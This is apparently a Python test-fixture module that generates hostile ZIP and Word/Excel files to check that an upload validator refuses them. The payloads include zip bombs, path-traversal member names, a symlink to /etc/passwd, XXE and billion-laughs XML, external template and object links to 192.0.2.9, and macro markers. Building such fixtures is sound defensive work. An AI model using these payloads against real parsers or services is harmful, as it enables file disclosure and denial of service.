"""Nasty archives and office files, made by code."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.nasty.pdfs import Nasty

TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
BODY = b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="urn:w"><w:body/></w:document>'
XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
HUGE = 320 * 1024 * 1024


def packed(members: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def office(kind: str, **changed: bytes) -> bytes:
    """A small docx or xlsx; `changed` adds or replaces members ("/" written "__", "." written "_dot_")."""
    main = "word/document.xml" if kind == "docx" else "xl/workbook.xml"
    members = {"[Content_Types].xml": TYPES, main: BODY}
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in changed.items()}
    if "main" in named:
        named[main] = named.pop("main")
    if "types" in named:
        named["[Content_Types].xml"] = named.pop("types")
    return packed(members | named)


def zeros(size: int = HUGE, name: str = "0", before: dict[str, bytes] | None = None) -> bytes:
    """One member of so many zeros, behind some small ones; written block by block so that it costs no time."""
    whole = 1 << 20
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b"\0" * whole) + packer.flush(zlib.Z_FULL_FLUSH)
    body = block * (size // whole) + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    start = packed(before)[:-22] if before else b""
    begin = len(packed(before)[: packed(before).index(b"PK\x01\x02")]) if before else 0
    crc = 0
    for _ in range(size // whole):
        crc = zlib.crc32(b"\0" * whole, crc)
    size = size // whole * whole
    facts = struct.pack("<HHHIIIHH", 8, 0, 33, crc, len(body), size, len(name), 0)
    local = b"PK\x03\x04" + struct.pack("<HH", 20, 0) + facts + name.encode() + body
    entry = (
        b"PK\x01\x02"
        + struct.pack("<HHH", 20, 20, 0)
        + facts
        + struct.pack("<HHHII", 0, 0, 0, 0, begin)
        + name.encode()
    )
    entries, number = start[begin:] + entry, len(before or {}) + 1
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, number, number, len(entries), begin + len(local), 0)
    return start[:begin] + local + entries + end


def linked() -> bytes:
    """A symbolic link to a file outside."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def twice() -> bytes:
    """Two members of one name."""
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("a.txt", b"one")
        archive.writestr("a.txt", b"two")
    return out.getvalue()


def lying() -> bytes:
    """A member that says one byte and unpacks to a million."""
    content = packed({"a.txt": b"x" * 1_000_000})
    size = struct.pack("<I", 1_000_000)
    return content.replace(size, struct.pack("<I", 1))


def overlapping() -> bytes:
    """A directory in which 200 entries point at the same megabyte."""
    content = packed({"0": b"\0" * (1 << 20)})
    start = content.index(b"PK\x01\x02")
    entry, tail = content[start : content.index(b"PK\x05\x06")], content[content.index(b"PK\x05\x06") :]
    entries = b"".join(entry[:46] + f"{n:d}".encode()[-1:] + entry[47:] for n in range(200))
    end = tail[:8] + struct.pack("<HHII", 200, 200, len(entries), start) + tail[20:]
    return content[:start] + entries + end


def encrypted() -> bytes:
    """The flag of a password set on every member."""
    content = bytearray(packed({"a.txt": b"a"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + offset] |= 1
    return bytes(content)


def rels(target: str, kind: str) -> bytes:
    """A relationship that leads outside."""
    return f'<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas/{kind}" Target="{target}" TargetMode="External"/></Relationships>'.encode()


NAMES = {
    "up": "../../CANARY",
    "up in the middle": "a/../../CANARY",
    "up with backslashes": "..\\..\\CANARY",
    "absolute": "/etc/CANARY",
    "drive": "C:\\CANARY",
    "turned around": "a\u202etxt.exe.txt",
    "invisible": "a\u200bb.txt",
    "bell": "a\x07b.txt",
    "line break": "a\nb.txt",
    "long": "a" * 300 + ".txt",
}
INSIDE = ("a.zip", "a.rar", "a.7z", "a.tar.gz", "a.exe", "a.js", "a.html", "a.svg", "a.docm", "a.lnk", "a.bat", "a.EXE ", "a.jar", "a.iso")  # fmt: skip


def zips() -> dict[str, Nasty]:
    """ZIP files."""
    bomb = packed({f"{n}.docx": zeros(64 << 20) for n in range(6)}, zipfile.ZIP_STORED)
    good = packed({"a.txt": b"a"})
    found = {
        **{f"name {name}": packed({path: b"x"}) for name, path in NAMES.items()},
        **{f"inside {name}": packed({name: b"x"}) for name in INSIDE},
        "bomb": zeros(),
        "bomb in office files": bomb,
        "link": linked(),
        "two of one name": twice(),
        "lying size": lying(),
        "overlapping": overlapping(),
        "password": encrypted(),
        "3001 members": packed({f"{n}": b"" for n in range(3001)}),
        "empty": packed({}),
        "bzip2": packed({"a.txt": b"a" * 1000}, zipfile.ZIP_BZIP2),
        "lzma": packed({"a.txt": b"a" * 1000}, zipfile.ZIP_LZMA),
        "program under a harmless name": packed({"a.txt": b"MZ\x90\0" + b"\0" * 99}),
        "elf under a harmless name": packed({"a.pdf": b"\x7fELF" + b"\0" * 99}),
        "rar under a harmless name": packed({"a.txt": b"Rar!\x1a\x07\0"}),
        "picture in front": b"GIF89a" + good,
        "cut": good[:-20],
        "only an end": good[good.index(b"PK\x05\x06") :],
        "noise": b"PK\x03\x04" + bytes(range(256)) * 9,
        "rar": b"Rar!\x1a\x07\0" + b"\0" * 99,
        "gzip": b"\x1f\x8b\x08\0" + b"\0" * 99,
        "nothing": b"",
        "broken sum": good.replace(b"a.txt" + b"K", b"a.txt" + b"L"),
    }
    either = {"broken sum"}
    return {f"zip: {n}": (f"{n}.zip", c, "either" if n in either else "refused") for n, c in found.items()}


def offices() -> dict[str, Nasty]:
    """Word and Excel files."""
    found: dict[str, bytes] = {}
    for kind in ("docx", "xlsx"):
        top = "word" if kind == "docx" else "xl"
        found |= {
            f"xxe.{kind}": office(kind, main=XXE),
            f"laughs.{kind}": office(kind, main=LAUGHS),
            f"xxe in utf-16.{kind}": office(kind, main=XXE.decode().replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")),
            f"strange encoding.{kind}": office(kind, main=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-'),
            f"xxe far inside.{kind}": office(kind, main=b"<!--" + b"x" * 300_000 + b"-->" + XXE),
            f"xxe in the types.{kind}": office(kind, types=XXE),
            f"macros.{kind}": office(kind, **{f"{top}__vbaProject_dot_bin": b"x"}),
            f"macros by type.{kind}": office(kind, types=TYPES.replace(b"/>", b' a="application/vnd.ms-word.document.macroEnabled.main+xml"/>')),
            f"controls.{kind}": office(kind, **{f"{top}__activeX__activeX1_dot_bin": b"x"}),
            f"template from outside.{kind}": office(kind, **{f"{top}___rels__settings_dot_xml_dot_rels": rels("http://192.0.2.9/CANARY.dotm", "attachedTemplate")}),
            f"picture from outside.{kind}": office(kind, **{f"{top}___rels__document_dot_xml_dot_rels": rels("file://192.0.2.9/CANARY.png", "image")}),
            f"object from outside.{kind}": office(kind, **{f"{top}___rels__document_dot_xml_dot_rels": rels("http://192.0.2.9/CANARY", "oleObject")}),
            f"bomb.{kind}": zeros(HUGE, "a.bin", {"[Content_Types].xml": TYPES, f"{top}/{'document' if kind == 'docx' else 'workbook'}.xml": BODY}),
            f"link.{kind}": linked(),
            f"other kind.{kind}": office("xlsx" if kind == "docx" else "docx"),
            f"plain zip.{kind}": packed({"a.txt": b"a"}),
            f"old format.{kind}": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 3000,
            f"html.{kind}": b"<html><script>alert('CANARY')</script></html>",
            f"nothing.{kind}": b"",
        }  # fmt: skip
    found["macro sheet.xlsx"] = office("xlsx", xl__macrosheets__sheet1_dot_xml=b"<a/>")
    return {f"office: {name}": (name, content, "refused") for name, content in found.items()}
